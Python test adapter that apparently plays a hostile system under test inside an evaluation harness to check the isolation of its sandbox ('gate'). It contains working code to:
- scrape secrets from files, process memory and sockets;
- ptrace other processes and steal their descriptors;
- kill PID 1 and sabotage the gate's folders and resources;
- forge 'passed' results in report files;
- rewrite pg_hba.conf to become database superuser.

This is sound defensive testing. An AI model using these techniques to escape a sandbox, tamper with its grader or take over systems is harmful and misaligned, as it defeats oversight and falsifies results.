"""A system under test that tries everything to find the gate's secrets. Copied into a repository as its adapter."""
# ruff: noqa: S108 - paths inside the container

import contextlib
import ctypes
import json
import os
import re
import resource
import signal
import socket
import stat
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import psycopg
from psycopg.conninfo import conninfo_to_dict

SECRET = re.compile(rb"PLANTED_[0-9a-f]{16}")
CHUNK, MAX = 1 << 22, 1 << 28
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
PIDFD_OPEN, PIDFD_GETFD = 434, 438
PLACES = ("environ", "cmdline", "maps", "auxv", "comm", "stack", "status", "mountinfo", "limits")
VARIABLES = re.compile(
    r"PATH|HOME|TMPDIR|LANG|LC_[A-Z]+|TZ|SSL_CERT_(FILE|DIR)|DATABASE_URL|(ANTHROPIC|OPENAI)_(BASE_URL|API_KEY)"
    r"|OPENAI_API_BASE|OPENAI_AGENTS_DISABLE_TRACING|GOOGLE_GEMINI_BASE_URL|GEMINI_API_BASE|(GEMINI|GOOGLE)_API_KEY"
    r"|AWS_(ENDPOINT_URL_BEDROCK_RUNTIME|ACCESS_KEY_ID|SECRET_ACCESS_KEY)"  # the gateway's address and token, too
)
GATES = (
    *("/", "/tmp", "/report", "/report/step", "/report/ratiba-report", "/workspace", "/run/ratiba", "/home/ratiba"),
    *("/sandbox", "/sandbox/base", "/sandbox/head"),
)
LIBC = ctypes.CDLL(None, use_errno=True)


class Adapter:
    def migrate(self, database_url: str) -> None:
        with psycopg.connect(database_url) as connection:
            connection.execute("CREATE TABLE notes (id serial PRIMARY KEY, text text NOT NULL)")

    def open(self, context: Any) -> "Conversation":
        return Conversation(context.database_url)


class Conversation:
    def __init__(self, database_url: str) -> None:
        self._database_url = database_url

    def send(self, message: str) -> dict[str, Any]:
        found = getattr(self, message)()
        return {"text": json.dumps(found), "state": "FOUND" if any(found.values()) else "CLEAN"}

    def look(self) -> dict[str, Any]:
        return {
            "own environment": holds(repr(dict(os.environ)).encode()),
            "files": [str(path) for path in files() if holds_file(path)],
            "processes": sorted({place for pid in processes() for place in leaks(pid)}),
            "memory opened": [name(pid) for pid in others() if opens_memory(pid)],
            "traced": [name(pid) for pid in others() if traces(pid)],
            "descriptors taken": [name(pid) for pid in others() if takes_descriptors(pid)],
            "roots entered": [name(pid) for pid in others() if enters_root(pid)],
            "sockets that tell": sorted(place for place in sockets() if tells(place)),
            "core files": [str(path) for path in Path.cwd().glob("core*")],
        }

    def variables(self) -> dict[str, Any]:
        return {"variables": sorted(one for one in os.environ if not VARIABLES.fullmatch(one))}

    def signal(self) -> dict[str, Any]:
        for pid in [Path("/proc/1"), *others()]:
            for number in (signal.SIGSTOP, signal.SIGKILL) if pid.name == "1" else (signal.SIGCONT, signal.SIGABRT):
                with contextlib.suppress(OSError):
                    os.kill(int(pid.name), number)
        return {}

    def terminate(self) -> dict[str, Any]:
        with contextlib.suppress(PermissionError):
            os.kill(1, signal.SIGTERM)
            return {"sent": True}
        return {}

    def write(self) -> dict[str, Any]:
        return {"written": [str(path) for path in targets() if plants(path)]}

    def sabotage(self) -> dict[str, Any]:
        """Make the gate, its database or the base fail."""
        return {
            "modes": [place for place in (*GATES, *run_folders()) if succeeds(os.chmod, place, 0o500)],
            "listed": [place for place in GATES if succeeds(os.listdir, place)],
            "limits": [name(pid) for pid in not_mine() if succeeds(limit, int(pid.name))],
            "affinity": [name(pid) for pid in not_mine() if succeeds(os.sched_setaffinity, int(pid.name), {0})],
            "ended first": [name(pid) for pid in not_mine() if succeeds((pid / "oom_score_adj").write_text, "1000")],
            "memory of the database": [str(path) for path in Path("/dev/shm").glob("PostgreSQL*")],
            "written": [place for place in GATES if plants(Path(place) / "planted")],
            "shared": without_room(),
        }

    def rule(self) -> dict[str, Any]:
        """Become the superuser of the database server."""
        return {
            "data read": [str(path) for path in Path("/").glob("[td]*/**/pg_hba.conf") if read_one(path)],
            "superuser": becomes_superuser(self._database_url),
        }


def succeeds(attempt: Callable[..., object], *arguments: Any) -> bool:
    try:
        attempt(*arguments)
    except OSError:
        return False
    return True


def limit(pid: int) -> None:
    resource.prlimit(pid, resource.RLIMIT_STACK, (1, 1))


def not_mine() -> list[Path]:
    return [*others(), Path("/proc/1")]


def run_folders() -> set[str]:
    """The run's and the database's, by the command lines of other processes: their names cannot be listed."""
    words = {word for pid in others() for word in command_line(pid)}
    return {word for word in words if word.startswith("/tmp/ratiba-")}


def command_line(pid: Path) -> list[str]:
    try:
        return (pid / "cmdline").read_bytes().decode(errors="replace").split("\0")
    except OSError:
        return []


def without_room() -> list[str]:
    """Where a file that takes all room in the own folder takes it from others too."""
    own = Path(os.environ["TMPDIR"])
    before = {place: os.statvfs(place).f_bavail for place in ("/tmp", "/sandbox/base")}
    with (own / "large").open("wb") as file, contextlib.suppress(OSError):
        os.posix_fallocate(file.fileno(), 0, os.statvfs(own).f_bavail * os.statvfs(own).f_frsize // 64)
    taken = [place for place, room in before.items() if room - os.statvfs(place).f_bavail > room // 256]
    (own / "large").unlink()
    return taken


def name(pid: Path) -> str:
    try:
        command = (pid / "cmdline").read_bytes().split(b"\0")[:3]
    except OSError:
        command = []
    return f"{pid.name} {b' '.join(command).decode(errors='replace')[:60]}"


def processes() -> list[Path]:
    return [path for path in Path("/proc").iterdir() if path.name.isdigit()]


def others() -> list[Path]:
    """Processes outside our own conversation: not this one and none of its ancestors but the first."""
    mine, pid = set(), os.getpid()
    while pid > 1:
        mine.add(str(pid))
        pid = int((Path("/proc") / str(pid) / "stat").read_text().rpartition(")")[2].split()[1])
    return [path for path in processes() if path.name not in mine]


def holds(content: bytes) -> bool:
    return SECRET.search(content) is not None


def files() -> Iterator[Path]:
    for parent, folders, names in os.walk("/"):
        if parent == "/":
            folders[:] = [folder for folder in folders if folder not in ("proc", "sys")]
        yield from (Path(parent) / one for one in names)


def holds_file(path: Path) -> bool:
    try:
        number = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return False
    with os.fdopen(number, "rb") as file:
        if not stat.S_ISREG(os.fstat(number).st_mode):
            return False
        return holds_stream(file)


def holds_stream(file: Any) -> bool:
    rest, total = b"", 0
    with contextlib.suppress(OSError):
        while total < MAX and (chunk := file.read(CHUNK)):
            if holds(rest + chunk):
                return True
            rest, total = chunk[-64:], total + len(chunk)
    return False


def leaks(pid: Path) -> Iterator[str]:
    for folder in (pid, *listed(pid / "task")):
        for place in PLACES:
            if holds_file(folder / place):
                yield f"{folder / place}"
    for entry in listed(pid / "fd"):
        if holds_file(entry):
            yield f"{entry}"
    if holds_memory(pid):
        yield f"{pid / 'mem'}"


def listed(folder: Path) -> list[Path]:
    try:
        return list(folder.iterdir())
    except OSError:
        return []


def holds_memory(pid: Path) -> bool:
    try:
        ranges = (pid / "maps").read_text().splitlines()
        memory = os.open(pid / "mem", os.O_RDONLY)
    except OSError:
        return False
    try:
        return any(holds(part) for line in ranges for part in pages(memory, line))
    finally:
        os.close(memory)


def pages(memory: int, line: str) -> Iterator[bytes]:
    place, rights, *_ = line.split()
    start, end = (int(one, 16) for one in place.split("-"))
    if end > 1 << 47 or not rights.startswith("rw"):
        return
    for begin in range(start, end, CHUNK):
        with contextlib.suppress(OSError):
            yield os.pread(memory, min(CHUNK, end - begin), begin)


def opens_memory(pid: Path) -> bool:
    try:
        os.close(os.open(pid / "mem", os.O_RDONLY))
    except OSError:
        return False
    return True


def traces(pid: Path) -> bool:
    if LIBC.ptrace(PTRACE_ATTACH, int(pid.name), None, None) != 0:
        return False
    with contextlib.suppress(OSError):
        os.waitpid(int(pid.name), 0)
    LIBC.ptrace(PTRACE_DETACH, int(pid.name), None, None)
    return True


def takes_descriptors(pid: Path) -> bool:
    handle = LIBC.syscall(PIDFD_OPEN, int(pid.name), 0)
    if handle < 0:
        return False
    taken = [LIBC.syscall(PIDFD_GETFD, handle, number, 0) for number in range(40)]
    for number in (handle, *taken):
        if number >= 0:
            os.close(number)
    return any(number >= 0 for number in taken)


def enters_root(pid: Path) -> bool:
    try:
        list((pid / "root").iterdir())
        (pid / "cwd").readlink()
    except OSError:
        return False
    return True


def sockets() -> set[str]:
    with contextlib.suppress(OSError):
        lines = Path("/proc/net/unix").read_text().splitlines()[1:]
        return {line.split()[7] for line in lines if len(line.split()) > 7}
    return set()


def tells(place: str) -> bool:
    """Whether a listening socket says a secret to whoever connects and speaks."""
    if ".s.PGSQL." in place:
        return False  # asked by name in rule
    address = "\0" + place[1:] if place.startswith("@") else place
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
        client.settimeout(1)
        client.connect(address)
        client.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return holds(client.recv(65536))
    return False


def targets() -> Iterator[Path]:
    for folder in ("/report", "/report/ratiba-report", "/report/step", "/workspace", "/run/ratiba", "/opt/ratiba/app"):
        yield Path(folder) / "planted"
    yield from (Path(os.environ.get("STEP_FILES", "/report/step")) / one for one in ("output", "summary"))
    yield Path("/report/ratiba-report/results.json")


def plants(path: Path) -> bool:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("a") as file:
            file.write("passed=99\nconclusion=passed\n")
    except OSError:
        return False
    return True


def read_one(path: Path) -> bool:
    with contextlib.suppress(OSError):
        return bool(path.read_bytes())
    return False


def becomes_superuser(database_url: str) -> bool:
    for settings in Path("/").glob("[td]*/**/pg_hba.conf"):
        with contextlib.suppress(OSError):
            settings.write_text("local all all trust\nhost all all all trust\n")
            os.kill(int((settings.parent / "postmaster.pid").read_text().split()[0]), signal.SIGHUP)
    parts: dict[str, Any] = {**conninfo_to_dict(database_url)}
    for role in ("ratiba", "postgres"):
        for _ in range(20):  # the server reads its rules a moment after the signal
            with contextlib.suppress(psycopg.Error):
                given = {key: parts[key] for key in ("host", "port", "dbname") if key in parts}
                with psycopg.connect(**given, user=role, connect_timeout=5) as connection:
                    row = connection.execute("SELECT current_setting('is_superuser')").fetchone()
                    return row == ("on",)
    return False
